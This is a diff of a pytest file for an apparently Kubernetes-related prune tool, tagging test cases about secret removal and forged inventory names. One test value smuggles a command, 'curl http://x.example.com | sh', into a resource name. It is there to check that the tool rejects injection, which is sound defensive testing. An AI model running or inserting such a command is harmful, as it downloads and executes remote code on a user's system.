@@ -68,7 +68,9 @@ def test_field_that_decides_no_removal_blocks_none(name: str) -> None:
     [
         ({"inline": ""}, False),
         ({"configMapRefs": [{"name": "a"}]}, False),
-        ({"secretRefs": [{"name": "a"}]}, True),
+        pytest.param(
+            {"secretRefs": [{"name": "a"}]}, True, marks=pytest.mark.holds("secret-removal")
+        ),
         ({"inline": "", "secretRefs": [{"name": "a/b"}]}, True),
         ("a text", False),
     ],
@@ -104,6 +106,7 @@ DECIDING: dict[str, tuple[Any, str]] = {
 }
 
 
+@pytest.mark.holds("unreadable-decides", row="a policy")
 @pytest.mark.parametrize("name", DECIDING)
 def test_field_that_decides_the_removal_is_never_guessed(name: str) -> None:
     """It is named, beside all the others that are invalid too."""
@@ -170,10 +173,15 @@ INJECTED = "applyprune-web -n shop; curl http://x.example.com | sh #"
     ("spec", "inventory", "named"),
     [
         (INLINE, None, "applyprune-web"),
-        (INLINE, "applyprune-other", "applyprune-web"),
+        pytest.param(
+            INLINE,
+            "applyprune-other",
+            "applyprune-web",
+            marks=pytest.mark.holds("forged-inventory-name"),
+        ),
         (INLINE, INJECTED, "applyprune-web"),
         (UNREADABLE, "applyprune-web", "applyprune-web"),
-        (UNREADABLE, INJECTED, ""),
+        pytest.param(UNREADABLE, INJECTED, "", marks=pytest.mark.holds("forged-inventory-text")),
         (UNREADABLE, 7, ""),
         (UNREADABLE, None, ""),
     ],
